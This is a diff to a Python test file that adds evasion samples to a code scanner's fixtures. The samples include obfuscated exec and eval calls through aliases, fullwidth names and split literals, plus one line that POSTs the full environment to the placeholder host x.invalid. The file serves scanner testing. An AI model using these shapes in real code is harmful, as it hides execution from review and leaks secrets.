@@ -100,8 +100,17 @@ EVASIONS = (
     "import base64\nrun = globals()['exec']\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
     "import base64\ndef f(x=exec(base64.b64decode('cHJpbnQoMSk='))):\n    pass\n",
     "import zlib\n@exec\n@zlib.decompress\nclass C:\n    pass\n",
+    "import base64\nrun = exec\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
+    "import base64, builtins\nbuiltins.exec(base64.b64decode('cHJpbnQoMSk='))\n",
+    "import base64\n__import__('builtins').eval(base64.b64decode('MQ=='))\n",
+    "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('cHJpbnQoMSk='))\n",
+    "import base64\nrun = globals()['\\x65xec']\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
+    "import base64\nrun = globals()['ex' 'ec']\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
+    "import os\nfrom http import client\nc = client.HTTPSConnection('x.invalid')\n"
+    "c.request('POST', '/', body=str(os.environ))\n",
 )
-"""Shapes written to slip past token checks (aliases, list-form commands, names by string)."""
+"""Shapes written to slip past token checks (aliases, list-form commands, names by string,
+runners passed by name, fullwidth identifiers, escaped or split literals)."""
 
 
 def test_prefilter_never_hides_an_import_time_finding(tmp_path: Path) -> None:
